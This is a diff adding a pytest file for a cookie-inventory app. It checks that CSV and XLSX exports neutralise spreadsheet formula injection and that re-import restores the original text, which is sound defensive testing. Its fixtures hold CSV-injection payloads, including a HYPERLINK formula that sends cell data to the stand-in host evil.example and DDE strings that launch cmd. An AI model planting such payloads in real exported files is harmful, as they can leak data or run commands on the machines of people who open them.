@@ -1,0 +1,85 @@
+"""No exported cell is something a spreadsheet would evaluate: texts starting with = + - @,
+tab or CR get a leading apostrophe in CSV and XLSX, XLSX cells are never formulas, and an
+import gives the original text back."""
+import csv
+import io
+
+import pytest
+from openpyxl import load_workbook
+from sqlalchemy import select
+
+from inventory.export import export_bytes, neutralise, unneutralise
+from inventory.importer import import_inventory
+from models import Category, Cookie, Provider, Purpose, db
+from tests.inventory.conftest import checksum
+
+PAYLOADS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+    "+SUM(1+1)",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "'=already quoted",
+    "''+twice",
+]
+DANGEROUS_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def add_hostile_cookie():
+    provider = Provider(name='=HYPERLINK("http://evil.example","x")')
+    purposes = [Purpose(description_fr=text, description_en=text) for text in PAYLOADS]
+    cookie = Cookie(
+        name="=cmd|' /C calc'!A0",
+        domain="",
+        provider=provider,
+        category=db.session.scalars(select(Category).where(Category.key == "marketing")).one(),
+        service_fr="@SUM(A1:A2)",
+        service_en="+1",
+        purposes=purposes,
+        lifetime_unit="days",
+        lifetime_amount=1,
+        notes="-1",
+    )
+    db.session.add(cookie)
+    db.session.commit()
+
+
+@pytest.mark.parametrize("value", PAYLOADS + ["plain", "", "a=b", "'quoted", "'", "\tx", "\rx"])
+def test_neutralising_is_exactly_reversible(value):
+    assert unneutralise(neutralise(value)) == value
+    assert not neutralise(value).startswith(DANGEROUS_START)
+
+
+@pytest.mark.parametrize("fmt", ["csv", "csv-excel"])
+def test_no_csv_cell_starts_like_a_formula(app, fmt):
+    add_hostile_cookie()
+    text = export_bytes(fmt).decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";" if fmt == "csv-excel" else ","))
+    cells = [cell for row in rows for cell in row]
+    assert not [cell for cell in cells if cell.startswith(DANGEROUS_START)]
+    assert "'=cmd|' /C calc'!A0" in cells
+    assert "'@SUM(A1:A2)" in cells and "'+1" in cells and "'-1" in cells
+
+
+def test_no_xlsx_cell_is_a_formula_or_starts_like_one(app):
+    add_hostile_cookie()
+    workbook = load_workbook(io.BytesIO(export_bytes("xlsx")))
+    for sheet in workbook:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
+                if isinstance(cell.value, str):
+                    assert not cell.value.startswith(DANGEROUS_START), (sheet.title, cell.coordinate)
+    names = [row[0] for row in workbook["Cookies"].iter_rows(min_row=2, values_only=True)]
+    assert "'=cmd|' /C calc'!A0" in names
+    providers = [row[0] for row in workbook["Providers"].iter_rows(min_row=2, values_only=True)]
+    assert "'=HYPERLINK(\"http://evil.example\",\"x\")" in providers
+
+
+@pytest.mark.parametrize("fmt", ["csv", "csv-excel", "xlsx"])
+def test_importing_the_export_restores_the_original_texts(app, fmt):
+    add_hostile_cookie()
+    before = checksum()
+    report = import_inventory(export_bytes(fmt), filename=f"export.{fmt}", dry_run=False)
+    assert report.ok, report.summary()
+    assert {change.action for change in report.changes} == {"unchanged"}
+    assert checksum() == before
